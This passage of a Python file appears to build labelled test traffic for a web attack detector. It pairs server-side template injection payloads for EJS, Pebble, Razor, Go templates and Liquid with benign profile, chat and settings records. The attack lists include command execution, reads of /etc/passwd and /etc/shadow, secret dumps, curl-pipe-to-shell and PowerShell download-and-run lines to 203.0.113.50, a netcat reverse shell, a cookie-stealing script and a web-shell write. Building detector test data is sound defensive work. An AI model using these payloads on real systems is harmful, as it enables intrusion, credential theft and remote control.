    "{% include \"/etc/passwd\" %}",
]

# EJS (Node.js / Express): a page template stored by a tenant, and the render options polluted from a query
EJS: list[Entry] = [
    "<%= global.process.mainModule.require('child_process').execSync('id') %>",
    "<%- include('/etc/passwd') %>",
    "<% process.mainModule.require('child_process').exec('curl 203.0.113.50/ejs|sh') %>",
    "<%= process.env.DATABASE_URL %>",
    "<%- global.process.mainModule.constructor._load('fs').readFileSync('/etc/shadow') %>",
    "<%= this.constructor.constructor('return process')().mainModule.require('child_process')"
    ".execSync('whoami') %>",
    "<%= new Function('return process')().mainModule.require('child_process').execSync('ls -la /').toString() %>",
    # CVE-2022-29078: the render options come from the query and are kept in the saved view settings
    ("settings[view options][outputFunctionName]=x;process.mainModule.require('child_process')"
     ".execSync('nc 203.0.113.50 4444 -e /bin/sh');s", *KV),
    ("settings[view options][client]=true&settings[view options][escapeFunction]=1;return global.process"
     ".mainModule.constructor._load('child_process').execSync('id');", *KF),
]

# Pebble (Java / Spring): an e-mail template stored in the admin console
PEBBLE: list[Entry] = [
    "{% set cmd = 'id' %}{% set bytes = (1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,null)"
    ".exec(cmd).inputStream.readAllBytes() %}{{ (1).TYPE.forName('java.lang.String').constructors[0]"
    ".newInstance(([bytes]).toArray()) }}",
    "{{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('curl 203.0.113.50/pb|sh') }}",
    "{{ ''.class.forName('java.lang.Runtime').getRuntime().exec('cat /etc/passwd') }}",
    "{{ (1).TYPE.forName('java.lang.System').getenv() }}",
    "{{ 'a'.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('js')"
    ".eval('java.lang.Runtime.getRuntime().exec(\"id\")') }}",
    "{% set m = beans.get(\"jacksonObjectMapper\").getTypeFactory().findClass("
    "\"org.springframework.expression.spel.standard.SpelExpressionParser\") %}"
    "{{ m.newInstance().parseExpression(\"T(java.lang.Runtime).getRuntime().exec('id')\").getValue() }}",
    "{{ request.getServletContext().getAttribute(\"org.springframework.web.context.WebApplicationContext.ROOT\") }}",
    "{% set rt = (1).TYPE.forName('java.lang.Runtime') %}{{ rt.getRuntime().exec('whoami') }}",
    "{% include '../../../../WEB-INF/classes/application.properties' %}",
]

# Razor (ASP.NET / RazorEngine): a stored e-mail template compiled by RazorEngine
RAZOR: list[Entry] = [
    "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami > C:\\\\inetpub\\\\wwwroot\\\\w.txt\")",
    "@{ System.Diagnostics.Process.Start(\"powershell\",\"-nop -c iwr http://203.0.113.50/r.ps1|iex\"); }",
    "@(System.IO.File.ReadAllText(\"C:\\\\Windows\\\\win.ini\"))",
    "@System.IO.Directory.GetFiles(\"C:\\\\inetpub\\\\wwwroot\")",
    "@{ var p = new System.Diagnostics.Process(); p.StartInfo.FileName = \"cmd.exe\"; p.StartInfo.Arguments = "
    "\"/c net user\"; p.StartInfo.RedirectStandardOutput = true; p.StartInfo.UseShellExecute = false; p.Start(); "
    "@p.StandardOutput.ReadToEnd() }",
    "@System.Environment.GetEnvironmentVariables()",
    "@Html.Raw(System.IO.File.ReadAllText(\"/etc/passwd\"))",
    "@{ System.IO.File.WriteAllText(\"C:\\\\inetpub\\\\wwwroot\\\\s.aspx\", \"<%@ Page Language=\\\"C#\\\" %>"
    "<% System.Diagnostics.Process.Start(Request[\\\"c\\\"]); %>\"); }",
    "@(new System.Net.WebClient().DownloadString(\"http://203.0.113.50/x\"))",
]

# Go templates (text/template, Sprig, Helm, Hugo, consul-template, Echo handlers): a stored snippet rendered with
# the handler's context
GO_TEMPLATES: list[Entry] = [
    "{{ . }}",
    "{{ .File \"/etc/passwd\" }}",
    "{{ .Attachment \"/app/config.yaml\" \"c.yaml\" }}",
    "{{ env \"AWS_SECRET_ACCESS_KEY\" }}",
    "{{ expandenv \"$DATABASE_URL\" }}",
    "{{ readFile \"/etc/passwd\" }}",
    "{{ (.Files.Glob \"**\").AsConfig }}",
    "{{ plugin \"/bin/sh\" \"-c\" \"curl 203.0.113.50/ct|sh\" }}",
    "{{ with secret \"secret/data/prod/db\" }}{{ .Data.data.password }}{{ end }}",
    "{{define \"T1\"}}<script>fetch('//203.0.113.50/?c='+document.cookie)</script>{{end}}{{template \"T1\"}}",
]

# Liquid (Ruby Shopify/Jekyll, LiquidJS): a storefront or page template saved by a merchant
LIQUID: list[Entry] = [
    "{% include ../../../../etc/passwd %}",
    "{% include_relative ../_config.yml %}",
    "{% render '/etc/passwd' %}",
    "{{ site.data | jsonify }}",
    "{{ settings | json }}",
    "{% for i in (1..1000000) %}{% for j in (1..1000000) %}x{% endfor %}{% endfor %}",
    "{% assign s = 'xxxxxxxx' %}{% for i in (1..40) %}{% assign s = s | append: s %}{% endfor %}{{ s }}",
    "{% include {{ page.user_file }} %}",
    "{{ shop.metafields | json }}",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("generic", "nodejs-injection", NODE_INJECTION),
    ("generic", "nodejs-dos", NODE_DOS),
    ("generic", "ssrf-cloud-metadata", SSRF_METADATA),
    ("generic", "ssrf-internal-ip", SSRF_INTERNAL),
    ("generic", "javascript-prototype-pollution", POLLUTION),
    ("generic", "ruby-injection", RUBY),
    ("generic", "perl-injection", PERL),
    ("generic", "php-data-scheme", PHP_DATA),
    ("java", "java-class-names", JAVA_CLASSES),
    ("java", "java-process-spawn", JAVA_SPAWN),
    ("java", "java-serialization", JAVA_SERIAL),
    ("java", "java-deserialization-gadgets", JAVA_GADGETS),
    ("java", "log4shell", LOG4SHELL),
    ("java", "java-expression-language", JAVA_EL),
    ("java", "java-polymorphic-deserialization", JAVA_POLY),
    ("java", "java-class-loading", JAVA_LOADING),
    ("java", "jsp-upload", JSP_UPLOAD),
    ("ssti", "jinja2", JINJA2),
    ("ssti", "twig", TWIG),
    ("ssti", "freemarker", FREEMARKER),
    ("ssti", "velocity", VELOCITY),
    ("ssti", "thymeleaf", THYMELEAF),
    ("ssti", "erb", ERB),
    ("ssti", "smarty", SMARTY),
    ("ssti", "handlebars", HANDLEBARS),
    ("ssti", "pug", PUG),
    ("ssti", "mako", MAKO),
    ("ssti", "tornado", TORNADO),
    ("ssti", "nunjucks", NUNJUCKS),
    ("ssti", "ejs", EJS),
    ("ssti", "pebble", PEBBLE),
    ("ssti", "razor", RAZOR),
    ("ssti", "go-templates", GO_TEMPLATES),
    ("ssti", "liquid", LIQUID),
]
# `name=value` pairs a framework binds or merges, sent unquoted
RAW_KV_SUBS = {"javascript-prototype-pollution", "ruby-injection", "java-serialization",
               "java-expression-language", "java-class-loading", "velocity", "ejs"}
# raw serialization bytes held as latin-1 text
LATIN_SUBS = {"java-serialization", "java-deserialization-gadgets"}


# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    raw_subs = RAW_KV_SUBS
    documents = True
    unique = True
    names = ["display_name", "bio", "address", "file_name", "webhook_url", "notify_template", "saved_filter",
             "signature", "avatar_url", "footer"]
    kv_safe = "=&[]._-:/'*$!(),;{}~@%+"
    raw_places = ("query", "form", "cookie", "rs-query", "rs-form", "rs-raw-body", "rs-cookie")
    one_line = ("cookie", "rs-cookie", "multipart-filename", "rs-multipart-filename")
    real_cycle = ("json", "settings", "form", "multipart-field", "header:User-Agent", "xml", "header:Referer",
                  "query", "multipart-filename", "cookie")
    rs_cycle = ("rs-query", "rs-form", "rs-json", "rs-xml", "rs-raw-body", "rs-header:User-Agent",
                "rs-header:Referer", "rs-header:X-Test-Header", "rs-cookie", "rs-multipart-filename")
    raw_body_forbids = ""
    xml_controls = "\n\t"

    def enc(self, value: str, latin: bool = False, safe: str = "") -> str:
        """Raw `name=value` payloads keep their own percent-escapes; raw bytes never do (a 0x25 byte is data)."""
        return enc(value, latin, safe.replace("%", "") if latin else safe)

    def _p_settings(self, p: Put) -> Record:
        """The user's settings: PATCH /api/users/42 with the value under its field in `settings`."""
        return {**_json("/api/users/42", {"settings": {p.name: p.v}}), "method": "PATCH"}

    def _p_settings_body(self, p: Put) -> Record:
        return {**_json("/api/users/42", {}), "method": "PATCH", "body": p.v}

    def _cookie_pair(self, p: Put) -> str:
        """A raw `name=value` cookie goes exactly as written (already cookie-safe)."""
        return p.v if p.raw else super()._cookie_pair(p)

    def upload_body(self, filename: str) -> str:
        """A JSP file name carries a JSP shell; any other upload the CSV an import expects."""
        return JSP_SHELL if ".jsp" in filename.lower() else "name,email\nAna Lima,ana@example.org\n"

    def is_latin(self, sub: str, payload: str) -> bool:
        return sub in LATIN_SUBS and any(ch < " " and ch not in "\n\t" or ch > "~" for ch in payload)


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: real people filling the same stored fields innocently (Slack chat about profiles, settings, templates
# and integrations; bios; searches; saved-search names typed into the admin search; links; display names and
# addresses; real documents' file names; ordinary headers; settings saved with the product's own placeholders)
CHAT = [
    # editing profiles and settings
    "just updated my display name to include my pronouns, hope that shows up in the directory",
    "can someone tell me where the notification settings moved? I want the weekly digest off",
    "my address has a unit number like 4B/12 and the form keeps cutting it after the slash, is that known?",
    "changed my bio, it now says I'm on parental leave until 3 March",
    "how do I set my working hours? the settings page only shows the time zone",
    "FYI the avatar upload takes PNG and JPG up to 5 MB, HEIC from iPhones doesn't work yet",
    "the e-mail signature editor ate my line breaks again",
    "is there a way to save a search? I run the same 'team: infra, active' filter every morning",
    "the saved report 'Q3 new joiners' is broken since the team rename",
    "please use your legal name in the HR profile and whatever you like as the display name",
    "whoever set their display name to a single emoji: the badge printer printed a blank badge",
    "the import template has a column for 'preferred name', use it for nicknames",
    # notification templates and placeholders the product documents
    "the welcome e-mail template uses {{first_name}} and {{team_name}}, don't rename those fields",
    "in Shopify the order notification uses {{ customer.first_name }} and {{ order.name }}, works fine",
    "Mailchimp merge tags are *|FNAME|* not {{FNAME}}, that's why the test mail said *|FNAME|*",
    "the Jinja template for the release notes has {% for item in changes %} and the loop works now",
    "our Helm chart sets the image tag with {{ .Values.image.tag }}, check values.yaml before deploying",
    "the PagerDuty message template includes ${alert.title} and ${alert.severity}",
    "Zendesk macro: Hi {{ticket.requester.first_name}}, thanks for reaching out",
    "the Handlebars partial {{> footer}} is missing from the digest template, that's why it looks bare",
    "Grafana alert text uses {{ $labels.instance }} and {{ $value }}, both render in Slack",
    "the Liquid snippet {% if customer %}Hi {{ customer.first_name }}{% endif %} goes into the header",
    "in the Spring app the message is 'Hello, ${user.name}' from messages.properties",
    "ERB in our Rails mailers: <%= @user.name %> and <%= link_to 'Reset', edit_password_url(@token) %>",
    "reminder: the SMS template has a 160 character limit including the {{code}} placeholder",
    # webhooks and integrations
    "the Slack incoming webhook for #deploys is in the vault, don't paste it in channels",
    "I set the webhook URL to our Zapier catch hook, the test event arrived",
    "Discord webhook for the community server is configured, messages show as 'Directory bot'",
    "the Teams connector URL changed after the tenant migration, please update the integration",
    "the webhook retries three times with backoff, check the delivery log under Integrations",
    "our AWS instances use IMDSv2 now, the metadata endpoint needs a token",
    "the PDF export of the directory uses the company letterhead now",
    # engineering chat that names the same technology
    "the Log4j upgrade to 2.23 went out with the Friday release",
    "we moved the Spring Boot service to Java 21, ProcessBuilder stays in the CLI tool only",
    "the Node service validates settings with a JSON schema before merging them",
    "lodash 4.17.21 everywhere now, the old merge CVE is gone",
    "the Rails app loads YAML with safe_load and permitted classes only",
    "Perl is still used by the legacy mail script, Ana is rewriting it in Python",
    "Jackson default typing is off, we deserialize to concrete DTOs",
    "the template engine on the marketing site is Nunjucks, the admin uses Jinja2",
    "Thymeleaf fragments for the header and footer live in templates/fragments",
    "we use Go's html/template for the status page, text/template only for the CLI",
    "the FreeMarker e-mail templates are in src/main/resources/mail",
    "the Java serialization of the cache was replaced with JSON last year",
    "the import job reads CSV, XLSX and JSON; XML was dropped",
    "support asked why the user agent column shows 'okhttp/4.12.0' for mobile logins, that's the Android app",
    # support
    "customer's display name is 'Zoë O'Connor-Ní Bhriain', the apostrophes and the accent both save fine",
    "the customer with the address 'Flat 3, 12½ High St' says the ½ disappears in the PDF",
    "user uploaded 'Résumé – final (2).pdf' and the file name shows with the en dash, looks right",
    "the team name '#infra & ops' shows with the hash in the sidebar, that's expected",
    "a user asked if they can put their phone number in the bio, yes but it's visible to everyone",
    "the office address in Tokyo is 東京都千代田区丸の内1-1-1, please paste it exactly",
    # bios
    "Product designer. Coffee, bikes, and typography. She/her.",
    "Backend engineer on the notifications team: templates, webhooks and the digest e-mail.",
    "Support lead (EMEA). I answer in English, Deutsch and Português.",
    "SRE. On call every other week. Ask me about Kubernetes and the metadata service.",
    "Data engineer. Imports, exports and the nightly report job.",
    "محمد الحسيني — مهندس برمجيات في فريق البنية التحتية",
    "Люблю горы и хороший код. Работаю в команде платформы.",
    "田中 太郎 / Tanaka Taro — QA, 大阪オフィス",
    "🌱 Gardener on weekends, 🧪 test automation on weekdays",
    "Dr. Priya Raman, MBBS — clinical informatics",
]

SEARCHES = [
    "zoë", "o'connor", "ní bhriain", "田中", "محمد", "josé", "müller", "d'angelo", "anne-marie", "van der berg",
    "webhook", "template", "notifications", "digest", "signature", "bio", "display name", "address", "unit 4b",
    "team: infra", "status: active", "role:admin", "java", "spring", "node", "ruby", "perl", "jinja",
    "log4j", "handlebars", "liquid", "freemarker", "pdf export", "import", "zapier", "slack", "discord", "teams",
    "metadata", "pronouns",
]

URLS = [
    "https://hooks.slack.com/services/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",
    "https://discord.com/api/webhooks/1234567890123456789/AbCdEfGhIjKlMnOpQrStUvWxYz0123456789abcdefGHIJ",
    "https://hooks.zapier.com/hooks/catch/1234567/3abcde9/",
    "https://example.webhook.office.com/webhookb2/7f1c2e3d-0b8a-4c5e-9f3a-2b1c0d9e8f7a@4d5e6f70-8192-4a3b-bc4d/"
    "IncomingWebhook/0a1b2c3d4e5f/6a7b8c9d-0e1f-4a2b-8c3d-4e5f6a7b8c9d",
    "https://events.pagerduty.com/v2/enqueue",
    "https://api.github.com/repos/example/directory/dispatches",
    "https://maker.ifttt.com/trigger/new_hire/with/key/dQw4w9WgXcQ",
    "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/configuring-instance-metadata-service.html",
    "https://cloud.google.com/compute/docs/metadata/overview",
    "https://learn.microsoft.com/en-us/azure/virtual-machines/instance-metadata-service",
    "https://jinja.palletsprojects.com/en/3.1.x/templates/",
    "https://shopify.dev/docs/api/liquid/objects/customer",
    "https://handlebarsjs.com/guide/partials.html",
    "https://freemarker.apache.org/docs/dgui_quickstart_template.html",
    "https://logging.apache.org/log4j/2.x/security.html",
    "https://nodejs.org/api/child_process.html",
    "https://guides.rubyonrails.org/action_mailer_basics.html",
    "https://mailchimp.com/help/all-the-merge-tags-cheat-sheet/",
    "https://www.gravatar.com/avatar/205e460b479e2e5b48aec07710c08d50?s=200&d=identicon",
    "https://cdn.example.com/avatars/ana-lima.png?v=3",
]

PROSE = [
    # saved-search names and filters typed into the admin search box
    "Q3 new joiners",
    "active users in team infra",
    "people with no display name",
    "addresses missing a postcode",
    "webhook failures last 7 days",
    "bios mentioning parental leave",
    "users with notifications off",
    "Lisbon office (Rua Augusta)",
    "contractors ending before 31/12",
    "admins & owners",
    "digest opt-outs",
    "unit 4B/12 residents",
    "São Paulo team",
    "Zoë's report",
    "emails like @example.org",
    "signature contains phone number",
    "imported from CSV on Monday",
    "Java guild members",
    "Node.js working group",
    "template owners",
    "Ruby on Rails maintainers",
    "Perl script owners",
    "PDF export recipients",
    "Log4j upgrade owners",
    "Spring Boot services on-call",
    "users with avatar from Gravatar",
    "office: 東京",
    "name: José Álvarez",
    "team: R&D (Berlin)",
    "status = active, role = member",
    "last login > 90 days",
    "joined 2024-01-01..2024-03-31",
    "people named O'Neill or O'Neil",
    "handles starting with @ana",
    "preferred name differs from legal name",
    "notification template reviewers",
    "metadata team",
    "webhook owners (Slack, Teams, Discord)",
    "100% remote",
    "C# and .NET developers",
]

PROFILES = [
    ("Zoë O'Connor-Ní Bhriain", "Apt 4B/12, 221 Baker St, London NW1 6XE"),
    ("José Álvarez (he/him)", "Calle de Alcalá 45, 3º Izq., 28014 Madrid"),
    ("田中 太郎", "東京都千代田区丸の内1-1-1 パレスビル 5F"),
    ("محمد الحسيني", "شارع الملك فهد، برج المملكة، الرياض"),
    ("Анна Петрова", "ул. Тверская, д. 7, кв. 12, Москва"),
    ("Dr. Priya Raman, MBBS", "No. 14, 2nd Cross, Indiranagar, Bengaluru 560038"),
    ("Ana \"Nana\" Lima", "Rua Augusta 12, 2º Dto, 1100-053 Lisboa"),
    ("Sir Patrick Stewart-Hughes OBE", "Flat 3, 12½ High St, Oxford OX1 4AW"),
    ("Chloé & Marc Dubois", "14 rue de la Paix, Bât. B, 75002 Paris"),
    ("Kim Min-jun 🇰🇷", "서울특별시 강남구 테헤란로 152, 12층"),
    ("Siobhán Ní Mhurchú", "Unit #5, 3-5 Grafton St, Dublin D02 X285"),
    ("Nguyễn Văn An", "Số 8 Tràng Tiền, Hoàn Kiếm, Hà Nội"),
    ("Lars Østergård", "Strøget 3, 1. th., 1160 København K"),
    ("Mary-Jane Watson-Parker", "PO Box 123, Suite 400 (c/o Acme)"),
    ("Jean-Luc D'Amboise", "1200 boul. René-Lévesque O., bureau 2500, Montréal QC"),
    ("Zhang Wei 张伟", "上海市浦东新区世纪大道100号 20楼"),
    ("Óscar Núñez", "Av. Corrientes 1234, Piso 7 \"B\", Buenos Aires"),
    ("Tomasz Wiśniewski", "ul. Marszałkowska 10/22, 00-590 Warszawa"),
    ("Fatima Zahra El Idrissi", "Résidence Al Amal, Imm. 3, Apt 12, Casablanca"),
    ("Ngozi Okonkwo-Adeyemi", "Plot 1415, Adetokunbo Ademola St, Victoria Island, Lagos"),
    ("Ravi Shankar (Ravi) 🌱", "Flat 302, Sai Residency, Road No. 12, Banjara Hills, Hyderabad"),
    ("Ömer Yılmaz", "İstiklal Cd. No:45 D:3, Beyoğlu/İstanbul"),
    ("Kai Müller", "Friedrichstraße 123, Hinterhaus, 3. OG, 10117 Berlin"),
    ("Aroha Ngata", "Level 2, 88 Queen St, Auckland 1010"),
    ("Yael Cohen-Levi", "רחוב הרצל 15, דירה 4, תל אביב"),
]

UPLOAD_NAMES = [
    "Résumé – final (2).pdf", "employees_2024-06.csv", "Q3 new joiners.xlsx", "org chart v7 [draft].pptx",
    "welcome-email-template.html", "notification_templates.json", "address-list (Berlin office).csv",
    "IMG_20240612_093015.jpg", "signature_logo@2x.png", "contract_O'Connor_signed.pdf",
    "田中さん_履歴書.pdf", "Directory import – June.xlsx", "settings-export-2024-06-01.json",
    "webhooks-backup.yaml", "bio photo #2.jpeg", "offboarding checklist (HR).docx", "pronouns-guide.pdf",
    "team_infra&ops.csv", "log4j-upgrade-plan.md", "spring-boot-3-migration.pdf", "handbook_v2.1.epub",
    "Screenshot 2024-06-12 at 09.41.22.png", "avatars.zip", "100% remote policy.pdf", "release-notes_1.8.0.txt",
]

BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.5 Mobile/15E148 Safari/604.1"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/126.0.0.0 Safari/537.36 Edg/126.0.0.0"),
    ("User-Agent", "okhttp/4.12.0"),
    ("User-Agent", "Directory/2.4.1 (Android 14; Pixel 8)"),
    ("User-Agent", "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)"),
    ("User-Agent", "Zapier"),
    ("User-Agent", "Java/21.0.3"),
    ("User-Agent", "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)"),
    ("User-Agent", "Ruby"),
    ("User-Agent", "libwww-perl/6.77"),
    ("Referer", "https://app.example.com/settings/notifications"),
    ("Referer", "https://app.example.com/settings/integrations/webhooks?tab=deliveries"),
    ("Referer", "https://app.example.com/admin/users/search?q=Zo%C3%AB"),
    ("Referer", "https://app.example.com/profile/edit#address"),
    ("Referer", "https://mail.google.com/"),
    ("Accept-Language", "ja-JP,ja;q=0.9,en-US;q=0.8"),
    ("Cookie", "session=abc123; tz=Asia%2FTokyo; digest=weekly"),
    ("Cookie", "session=abc123; saved_search=team%3Ainfra%20status%3Aactive"),
    ("X-Request-Id", "9b2f6c1e-4d3a-4f8b-a7e2-0c5d1b9e3f64"),
    ("If-Modified-Since", "Wed, 12 Jun 2024 09:41:22 GMT"),
]

# settings saved as they really are: notification templates with the placeholders the products document, webhook
# URLs of well-known services, preferences, saved filters
SETTINGS: list[dict[str, Any]] = [
    {"notify_template": "Hi {{first_name}}, welcome to {{team_name}}! Your manager is {{manager.name}}."},
    {"notify_template": "Hello {{ customer.first_name }}, your order {{ order.name }} has shipped."},
    {"notify_template": "Hi *|FNAME|*, here is your weekly digest for *|DATE:d/m/y|*."},
    {"notify_template": "{% if user.is_new %}Welcome aboard, {{ user.name }}!{% else %}Welcome back!{% endif %}"},
    {"notify_template": "[{{ .Status | toUpper }}] {{ .CommonLabels.alertname }} on {{ .CommonLabels.instance }}"},
    {"notify_template": "Hi {{ticket.requester.first_name}}, we received your request #{{ticket.id}}."},
    {"notify_template": "Reminder: ${event.title} starts at ${event.start_time}"},
    {"notify_template": "Hello <%= @user.first_name %>, your password was changed."},
    {"notify_template": "Dear {name}, your invoice {invoice_no} of {amount} is due on {due_date}."},
    {"notify_template": "Hi %FIRSTNAME%, your code is %CODE%"},
    {"email_signature": "Ana Lima | Support Lead (EMEA)\n+351 21 000 0000 | ana@example.org"},
    {"email_signature": "— Zoë O'Connor-Ní Bhriain · she/her · Dublin 🇮🇪"},
    {"webhook_url": "https://hooks.slack.com/services/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"},
    {"webhook_url": "https://discord.com/api/webhooks/1234567890123456789/AbCdEfGhIjKlMnOpQrStUvWxYz0123"},
    {"webhook_url": "https://hooks.zapier.com/hooks/catch/1234567/3abcde9/"},
    {"webhook_url": "https://events.pagerduty.com/v2/enqueue", "routing_key": "R0123456789ABCDEF0123456789ABCDE"},
    {"avatar_url": "https://www.gravatar.com/avatar/205e460b479e2e5b48aec07710c08d50?s=200"},
    {"saved_filter": "team:infra status:active", "saved_filter_name": "Infra – active"},
    {"saved_filter": "role:admin OR role:owner", "saved_filter_name": "Admins & owners"},
    {"saved_filter": "^ana.*@example\\.org$", "saved_filter_name": "Ana's (regex)"},
    {"theme": "dark", "language": "pt-BR", "timezone": "America/Sao_Paulo", "digest": "weekly"},
    {"working_hours": "09:00-17:30", "days": ["mon", "tue", "wed", "thu"], "alerts": True},
    {"address": "Apt 4B/12, 221 Baker St, London NW1 6XE", "pronouns": "she/her"},
    {"display_name": "Kim Min-jun 🇰🇷", "bio": "Platform team. 서울 / remote."},
    {"export": {"format": "pdf", "letterhead": True, "orientation": "landscape"}},
]


def benign() -> Iterator[dict[str, Any]]:
    prefix = f"{NAME}-benign"
    n = 0
    for rec in SET.benign(prefix, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS):
        n += 1
        yield rec
    yield from numbered(({**_json("/api/users/42", {"settings": doc}), "method": "PATCH"} for doc in SETTINGS),
                        f"{prefix}-settings", n, "settings")


if __name__ == "__main__":
    print_records(attacks(), benign())
